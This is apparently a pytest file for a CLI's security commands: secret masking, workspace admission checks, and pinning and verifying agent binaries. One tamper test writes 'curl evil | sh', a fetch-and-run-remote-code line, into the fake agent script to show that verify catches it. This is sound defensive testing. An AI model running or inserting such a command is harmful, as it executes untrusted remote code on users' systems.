"""``baton doctor | pin | verify | admit`` through typer's CliRunner, with a fake config."""

from __future__ import annotations

import json
import os
from pathlib import Path
from types import MappingProxyType

import pytest
from typer.testing import CliRunner

from baton.agent_profile import AgentProfile, CredentialBinding
from baton.cli import security_cmds
from baton.config import BatonConfig
from baton.providers.catalog import BUILTIN_PROFILES

SECRET = "sk-ant-api03-doctor-must-never-print-this"


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    pkg = tmp_path / "install" / "lib" / "node_modules" / "fake-agent"
    (pkg / "bin").mkdir(parents=True)
    (pkg / "package.json").write_text('{"name": "fake-agent", "version": "9.9.9"}')
    (pkg / "bin" / "fake-agent").write_text("#!/bin/sh\necho hi\n")
    (pkg / "bin" / "fake-agent").chmod(0o755)
    bindir = tmp_path / "install" / "bin"
    bindir.mkdir()
    (bindir / "fake-agent").symlink_to(pkg / "bin" / "fake-agent")  # like npm's shims
    fake = AgentProfile(
        name="fake",
        title="Fake agent",
        command=("fake-agent", "acp"),
        family="claude",
        admission=("claude",),
        credentials=(CredentialBinding("ANTHROPIC_API_KEY"),),
    )
    profiles = {**BUILTIN_PROFILES, "fake": fake}
    state = tmp_path / "state"
    cfg = BatonConfig(project_dir=None, state_dir=state, profiles=MappingProxyType(profiles))
    monkeypatch.setattr(security_cmds, "_config", lambda *_, **__: cfg)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ.get('PATH', '')}")
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
    return {"pkg": pkg, "state": state, "tmp": tmp_path}


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(security_cmds.app, list(args))
    return result.exit_code, result.output


def test_doctor_json_shows_exact_env_masked(env: dict[str, Path]) -> None:
    code, out = run("doctor", "--agent", "fake", "--json")
    assert code == 0, out
    assert SECRET not in out and "wJalr" not in out
    [row] = json.loads(out)
    names = {e["name"]: e for e in row["env"]}
    assert names["ANTHROPIC_API_KEY"]["source"] == "credential:env:ANTHROPIC_API_KEY"
    assert "chars" in names["ANTHROPIC_API_KEY"]["value"]
    assert "AWS_SECRET_ACCESS_KEY" not in names
    assert names["HOME"]["value"] == "<private-root>/home"
    assert row["command_found"] and row["admission_families"] == ["claude"]
    assert row["pin"] == "not pinned" and row["problems"] == []


def test_doctor_human_all_profiles(env: dict[str, Path]) -> None:
    code, out = run("doctor")
    assert code == 0, out
    for name in ("builtin", "cursor", "claude", "codex", "gemini", "opencode", "qwen", "fake"):
        assert f"● {name}" in out
    assert SECRET not in out
    assert "CURSOR_CONFIG_DIR" in out and "NO_OPEN_BROWSER" in out


def test_doctor_unknown_agent_is_usage_error(env: dict[str, Path]) -> None:
    code, out = run("doctor", "--agent", "nope")
    assert code == 2 and "unknown agent profile 'nope'" in out and "ConfigError" not in out


def test_admit(env: dict[str, Path]) -> None:
    ws = env["tmp"] / "ws"
    (ws / ".git").mkdir(parents=True)
    code, out = run("admit", str(ws))
    assert code == 0 and out.startswith("admitted"), out
    (ws / ".claude").mkdir()
    (ws / ".claude" / "settings.json").write_text('{"hooks": {}}')
    code, out = run("admit", "--agent", "fake", str(ws))
    assert code == 1 and ".claude/settings.json" in out and "hooks" in out
    code, out = run("admit", "--agent", "builtin", str(ws))
    assert code == 0
    code, out = run("admit", "--json", str(ws))
    assert code == 1 and json.loads(out)["refusals"][0]["rule"] == "claude.settings"


def test_admit_output_is_neutralized(env: dict[str, Path]) -> None:
    ws = env["tmp"] / "ws2"
    (ws / ".opencode" / "plugin").mkdir(parents=True)
    code, out = run("admit", "--agent", "opencode", str(ws))
    assert code == 1 and "\x1b" not in out


def test_pin_then_verify_then_tamper(env: dict[str, Path]) -> None:
    code, out = run("pin", "fake")
    assert code == 0, out
    manifest = env["state"] / "pins" / "fake.json"
    data = json.loads(manifest.read_text())
    assert data["version"] == "9.9.9"
    platform = next(iter(data["platforms"].values()))
    assert platform["entrypoint"] == "bin/fake-agent"
    assert {f["path"] for f in platform["files"]} == {"bin/fake-agent", "package.json"}
    code, out = run("verify", "fake")
    assert code == 0 and "verified fake" in out, out
    code, out = run("doctor", "--agent", "fake", "--json")
    assert json.loads(out)[0]["pin"].startswith("pinned 9.9.9")
    (env["pkg"] / "bin" / "fake-agent").write_text("#!/bin/sh\ncurl evil | sh\n")
    code, out = run("verify", "fake")
    assert code == 1 and "bin/fake-agent: size" in out, out
    (env["pkg"] / "bin" / "extra.js").write_text("x")
    code, out = run("verify", "fake", "--root", str(env["pkg"]))
    assert code == 1 and "bin/extra.js: unexpected file" in out


def test_pin_with_root_and_out(env: dict[str, Path]) -> None:
    out_file = env["tmp"] / "pins" / "custom.json"
    code, out = run(
        "pin",
        "fake",
        "--root",
        str(env["pkg"]),
        "--entrypoint",
        "bin/fake-agent",
        "--out",
        str(out_file),
    )
    assert code == 0, out
    assert json.loads(out_file.read_text())["agent"] == "fake"


def test_verify_unpinned_is_usage_error(env: dict[str, Path]) -> None:
    code, out = run("verify", "fake")
    assert code == 2 and "baton pin fake" in out


def test_pin_refuses_links_with_exit_4(env: dict[str, Path]) -> None:
    (env["pkg"] / "bin" / "link").symlink_to(env["pkg"] / "package.json")
    code, out = run("pin", "fake")
    assert code == 4 and "bin/link: is a symbolic link" in out
